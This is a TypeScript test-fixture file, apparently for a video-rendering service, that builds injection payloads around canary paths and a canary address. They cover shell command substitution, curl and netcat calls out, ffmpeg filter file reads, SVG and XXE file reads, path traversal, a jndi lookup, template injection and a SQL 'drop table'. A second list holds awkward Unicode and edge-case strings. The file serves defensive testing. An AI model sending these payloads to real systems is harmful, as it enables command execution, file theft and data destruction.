export interface Canary {
  readonly file: string;
  readonly folder: string;
  readonly address: string;
}

/** Syntax of ffmpeg, drawtext, SVG, XML, shells, templates and paths, each with a canary. */
export const injections = ({ file, folder, address }: Canary): string[] => [
  `$(touch ${folder}/shell)`,
  `\`cat ${file} > ${folder}/backticks\``,
  `'; touch ${folder}/quote; #`,
  `" && curl http://${address}/ && "`,
  `| nc ${address.replace(':', ' ')}`,
  `x':textfile=${file}:y='`,
  `[in]movie=${file}[out];[in][out]overlay`,
  `,drawtext=textfile=${file}`,
  `%{pts} %{metadata:${file}} \\%{e\\:1}`,
  `-i http://${address}/a.mp4 -y ${folder}/option.mp4`,
  `concat:${file}|${file}`,
  `file '${file}'`,
  `</text><image href="http://${address}/a.png"/><text>`,
  `<svg onload="fetch('//${address}')"><image xlink:href="file://${file}"/></svg>`,
  `<!DOCTYPE a [<!ENTITY b SYSTEM "file://${file}">]><a>&b;</a>`,
  `<span font_desc="@${file}">&lt;b&gt;</span>`,
  `url(http://${address}/font.woff)`,
  `../../../../../../..${file}`,
  `file://${file}`,
  `http://${address}/`,
  `\${jndi:ldap://${address}/a} {{7*7}} <%= 7 %>`,
  `'); drop table render.videos; --`,
];

interface Oddity {
  readonly text: string;
  /** The visible part, if not all of it. */
  readonly shown: string;
}

const asItIs = (text: string): Oddity => ({ text, shown: text });

export const oddities: readonly Oddity[] = [
  ...['"', "'", '\\', '%', '%n%s%x', ':', '[', '{}', '&amp;'].map(asItIs),
  { text: 'two\nlines\r\nand\ta tab', shown: 'two lines and a tab' },
  // Postgres cannot store NUL.
  { text: 'before\u0000after', shown: 'beforeafter' },
  { text: '\u001b[31mred\u0007', shown: '[31mred' },
  { text: '\u202eright to left\u2066 and \u200fback', shown: 'right to left and back' },
  ...['אבג عبد 王小明 👩‍❤️‍👨', 'ବିଜୁ ପଟ୍ଟନାୟକ', '𠮷田 茂', 'Z̸̡̛͕̭a͂l̕g̀o̶'].map(asItIs),
  { text: '\ud800 alone', shown: '\ufffd alone' },
  { text: 'Ann\ufeff\u200b\u200d', shown: 'Ann' },
  ...['undefined', 'null', 'NaN', '-1', '__proto__', 'Ann '.repeat(49).trim(), 'W'.repeat(200)].map(asItIs),
];
